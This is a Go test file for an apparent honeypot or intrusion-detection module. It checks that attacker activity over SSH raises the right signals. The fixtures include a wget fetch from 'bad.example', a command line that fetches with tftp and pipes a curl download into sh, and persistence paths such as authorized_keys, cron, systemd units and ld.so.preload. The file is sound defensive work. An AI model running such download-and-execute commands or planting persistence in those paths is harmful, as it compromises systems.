package command

import (
	"strings"
	"testing"

	"bartizan/internal/detect/detecttest"
	"bartizan/internal/model"
	"bartizan/internal/observe"
)

func conclude(t *testing.T, o observe.Observation) map[string]model.Signal {
	t.Helper()
	got := map[string]model.Signal{}
	o.Service = "ssh"
	o = detecttest.Observation(o)
	fresh(t)().Detect(&o, func(s *model.Signal) {
		c := *s
		c.Related = append([]model.Entity(nil), s.Related...)
		got[s.Kind] = c
	})
	return got
}

func related(s model.Signal) string {
	var names []string
	for _, e := range s.Related {
		names = append(names, e.String())
	}
	return strings.Join(names, " ")
}

func TestDownloadNamesItsSource(t *testing.T) {
	got := conclude(t, observe.Observation{Fetch: &observe.Fetch{URL: "HTTP://Bad.Example:8080/x.sh", Tool: "wget"}})
	if r := related(got["file.download-url"]); r != "url:http://bad.example:8080/x.sh domain:bad.example" {
		t.Errorf("%q", r)
	}
	got = conclude(t, observe.Observation{Command: &observe.Command{Line: "cd /tmp; tftp -g -r a 192.0.2.7; curl http://192.0.2.8/b|sh"}})
	if r := related(got["command.download"]); r != "url:http://192.0.2.8/b ip:192.0.2.8" {
		t.Errorf("%q", r)
	}
	if _, ok := got["command.execute-download"]; !ok {
		t.Errorf("%v", got)
	}
}

func TestFiles(t *testing.T) {
	sum := strings.Repeat("0123456789abcdef", 4)
	got := conclude(t, observe.Observation{File: &observe.FileEvent{Path: "/tmp/a", How: "scp", SHA256: sum, Type: "elf", Size: 9}})
	if s := got["file.dropped-executable"]; related(s) != "sha256:"+sum || s.Class != model.ClassFile || s.Severity != model.High {
		t.Errorf("%+v", got)
	}
	got = conclude(t, observe.Observation{File: &observe.FileEvent{Path: "/root/.ssh/authorized_keys", How: "shell", SHA256: sum, Type: "text"}})
	if s := got["persistence.file"]; s.Class != model.ClassPersistence || s.Techniques[0] != "T1098.004" || s.Rule != "persistence.file.ssh-key" {
		t.Errorf("%+v", got)
	}
	for path, want := range map[string]string{"/etc/cron.d/x": "persistence.file.cron", "/etc/systemd/system/b.service": "persistence.file.service",
		"/etc/ld.so.preload": "persistence.file.preload", "/root/.bashrc": "persistence.file.profile", "/tmp/x": ""} {
		if got := persistent(path); got != want {
			t.Errorf("%s: %q", path, got)
		}
	}
}

func TestQuietCommands(t *testing.T) {
	for _, line := range []string{"ls -la", "cd", "exit", "", "echo hi"} {
		if got := conclude(t, observe.Observation{Command: &observe.Command{Line: line}}); len(got) > 0 {
			t.Errorf("%q: %v", line, got)
		}
	}
}
